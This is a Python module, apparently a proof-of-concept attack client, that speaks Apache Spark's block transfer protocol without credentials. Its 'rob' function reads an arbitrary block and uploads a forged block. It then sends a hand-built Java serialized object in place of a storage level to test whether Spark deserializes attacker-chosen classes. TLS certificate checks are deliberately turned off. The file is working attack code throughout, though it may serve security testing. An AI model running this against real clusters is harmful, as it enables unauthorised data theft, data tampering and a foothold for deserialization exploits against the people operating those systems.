"""Somebody without credentials who speaks Spark's transport protocol: frames, RPC, blocks. Plain Python, no Spark.

Frames are u64 length (of itself too), u8 type, body; big endian. Written from Spark's ``network-common`` (protocol) and
``network-shuffle`` (OpenBlocks, UploadBlock, StreamHandle).
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct
from collections.abc import Iterator
from dataclasses import dataclass

_CHUNK_FETCH, _CHUNK_SUCCESS, _RPC, _RPC_ANSWER = 0, 1, 3, 4
_OPEN_BLOCKS, _UPLOAD_BLOCK, _STREAM_HANDLE = 0, 1, 3
_TIMEOUT_S = 10.0

A_DATE = (
    b"\xac\xed\x00\x05sr" + struct.pack(">H", 14) + b"java.util.Date" + bytes.fromhex("686a81014b597419")
    + b"\x03\x00\x00xpw\x08" + bytes(8) + b"x"
)  # fmt: skip
"""An object of a class of the stranger's choice, as Java writes it: Spark expects a storage level in its place."""


@dataclass(frozen=True)
class Loot:
    """What the stranger got.

    Attributes:
        read: the block that was asked for.
        uploaded: whether an upload was acknowledged.
        deserialized: whether an object of a chosen class was made: the answer complains of that very class.
        answers: all that was heard, for messages.
    """

    read: bytes | None
    uploaded: bool
    deserialized: bool
    answers: tuple[bytes, ...]


def string(text: str | bytes) -> bytes:
    """u32 length, bytes."""
    raw = text.encode() if isinstance(text, str) else text
    return struct.pack(">i", len(raw)) + raw


@contextlib.contextmanager
def _connected(host: str, port: int, *, tls: bool) -> Iterator[socket.socket]:
    with socket.create_connection((host, port), timeout=_TIMEOUT_S) as raw:
        if not tls:
            yield raw
            return
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        with context.wrap_socket(raw) as wrapped:
            yield wrapped


def _ask(connection: socket.socket, kind: int, body: bytes) -> tuple[int, bytes]:
    """One request and its answer; (-1, b"") where the other side hangs up."""
    try:
        connection.sendall(struct.pack(">qB", 9 + len(body), kind) + body)
        head = _exactly(connection, 9)
        length, answer = struct.unpack(">qB", head)
        return answer, _exactly(connection, length - 9)
    except (ConnectionError, ssl.SSLError):
        return -1, b""


def _exactly(connection: socket.socket, count: int) -> bytes:
    found = b""
    while len(found) < count:
        part = connection.recv(count - len(found))
        if not part:
            raise ConnectionResetError("hung up")
        found += part
    return found


def _rpc(connection: socket.socket, message: bytes) -> tuple[int, bytes]:
    return _ask(connection, _RPC, struct.pack(">qi", 77, len(message)) + message)


def _read(connection: socket.socket, app: str, block: str) -> tuple[bytes | None, bytes]:
    names = string(app) + string("9") + struct.pack(">i", 1) + string(block)
    kind, answer = _rpc(connection, bytes([_OPEN_BLOCKS]) + names)
    if kind != _RPC_ANSWER:
        return None, answer
    handle = answer[12:]
    assert handle[0] == _STREAM_HANDLE
    stream, chunks = struct.unpack(">qi", handle[1:13])
    assert chunks == 1
    kind, answer = _ask(connection, _CHUNK_FETCH, struct.pack(">qi", stream, 0))
    return (answer[12:], b"") if kind == _CHUNK_SUCCESS else (None, answer)


def rob(host: str, port: int, *, app: str, block: str, metadata: bytes, upload: str, tls: bool = False) -> Loot:
    """Try to read a block, to leave one, and to have an object of a chosen class made; each on a connection of its own.

    Args:
        host: of the block manager.
        port: its port.
        app: the application's id, which is no secret.
        block: what to read.
        metadata: a storage level as Spark wants it with an upload.
        upload: name of what is left.
        tls: whether to speak TLS, without a certificate of one's own and without looking at theirs.
    """

    def left(what: bytes) -> bytes:
        return bytes([_UPLOAD_BLOCK]) + string(app) + string("9") + string(upload) + string(what) + string(b"forged")

    with _connected(host, port, tls=tls) as connection:
        read, complaint = _read(connection, app, block)
    with _connected(host, port, tls=tls) as connection:
        uploaded, said = _rpc(connection, left(metadata))
    with _connected(host, port, tls=tls) as connection:
        _, told = _rpc(connection, left(A_DATE))
    return Loot(read, uploaded == _RPC_ANSWER, b"java.util.Date" in told, (complaint, said, told))
